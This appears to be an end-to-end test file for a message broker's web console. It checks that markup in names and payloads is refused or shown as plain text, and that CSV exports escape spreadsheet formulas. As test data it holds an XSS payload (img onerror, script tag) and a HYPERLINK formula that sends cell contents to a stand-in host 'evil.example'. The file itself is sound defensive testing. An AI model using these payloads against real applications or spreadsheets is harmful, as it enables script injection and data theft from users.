import { readFileSync } from 'node:fs';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { openTopic, showAs, tailRows } from '../pages/topic.js';
import { Broker } from '../support/broker.js';
import { ConsolePage } from '../support/console-page.js';

/** Names and payloads that try to be a script in the page, or a formula in a spreadsheet. */

const script = '<img src=x onerror="window.pulsemqHurt=1"><script>window.pulsemqHurt=1</script>';
const formula = '=HYPERLINK("http://evil.example/?"&A1,"click")';
/** What the grammar of names lets through of both. */
const formulaUser = '-user@evil';

let broker: Broker;
let console: ConsolePage;

beforeAll(async () => {
  broker = await Broker.ready({ keep_last_value: true, description: script });
  await broker.call('POST', '/api/users', { username: formulaUser });
  console = await ConsolePage.open(broker, { language: 'en', scheme: 'light', size: 'desktop' });
  await console.logIn();
  await console.settled();
});

afterAll(async () => {
  await console?.close();
  await broker?.stop();
});

/** No script ran, nothing was asked of another host, the policy had nothing to stop. */
async function expectHarmless(where: string): Promise<void> {
  expect(await console.page.evaluate(() => 'pulsemqHurt' in window), where).toBe(false);
  expect(await console.page.locator('img[src="x"]').count(), where).toBe(0);
  await console.expectSound(where);
}

const publish = (topic: string, format: string, data: unknown): Promise<unknown> =>
  broker.call('POST', '/api/publish', { namespace: 'market_data', topic, format, data });

test('names that are markup are refused', async () => {
  const refused = (method: string, path: string, body: object): Promise<unknown> => broker.call(method, path, body);
  await expect(refused('POST', '/api/namespaces', { name: script })).rejects.toThrow('400');
  await expect(refused('POST', '/api/users', { username: script })).rejects.toThrow('400');
  await expect(publish(script, 'string', 'x')).rejects.toThrow('400');
});

describe.each(['string', 'df_msgpack', 'df_pyarrow'])('a payload of %s', (format) => {
  test('is shown as what it is', async () => {
    const topic = `hostile.${format}`;
    const data = format === 'string' ? JSON.stringify({ note: script }) : [{ note: script, [script]: formula }];
    await publish(topic, format, data);
    await openTopic(console, 'market_data', topic);
    await publish(topic, format, data);
    await tailRows(console).first().click();
    await console.page.locator('#main').getByText('onerror').first().waitFor();
    await expectHarmless(`the tail of ${format}`);
    await showAs(console, 'json');
    await console.page.locator('#main').getByText('onerror').first().waitFor();
    await expectHarmless(`the JSON of ${format}`);
  });
});

test('a table that is downloaded as CSV runs nothing in a spreadsheet', async () => {
  await publish('hostile.sheet', 'df_msgpack', [{ name: formula, '@sum': '+1+1', price: -1.5, tab: '\t=1' }]);
  await openTopic(console, 'market_data', 'hostile.sheet');
  await console.page.getByRole('tab', { name: console.words.topic.tabs.last }).click();
  await console.button(console.words.actions.download).click();
  const [file] = await Promise.all([
    console.page.waitForEvent('download'),
    console.page.getByRole('menuitem', { name: 'CSV', exact: true }).click(),
  ]);
  const text = readFileSync(await file.path(), 'utf8').replace(/^\uFEFF/, '');
  const [head = '', row = ''] = text.split('\r\n');
  expect(head).toBe(`name,"'@sum",price,tab`);
  expect(row.startsWith(`"'=HYPERLINK(`)).toBe(true);
  expect(row).toContain(`"'+1+1",-1.5,`);
  expect(row).toContain(`"'\t=1"`);
  await console.page.getByRole('menu').waitFor({ state: 'detached' });
  await expectHarmless('the download');
});

test('the audit log as CSV runs nothing in a spreadsheet', async () => {
  await expect(
    fetch(`${broker.address}/login`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ username: formula, password: 'wrong password' }),
    }).then(({ status }) => status),
  ).resolves.toBe(401);
  const csv = await broker.call<string>('GET', '/api/audit-logs/export?format=csv');
  expect(csv).toContain('HYPERLINK');
  const cells = csv.split(/\r?\n/).flatMap((line) => line.match(/("([^"]|"")*"|[^,]*)(,|$)/g) ?? []);
  const running = cells.filter((cell) => /^"?[=+\-@\t\r]/.test(cell) && !/^"?-?\d+(\.\d+)?"?,?$/.test(cell));
  expect(running).toEqual([]);
});

test.each(['/users', '/namespaces', '/permissions', '/audit', '/publish', '/'])(
  '%s shows hostile names as text',
  async (path) => {
    await console.go(path);
    await expectHarmless(path);
  },
);
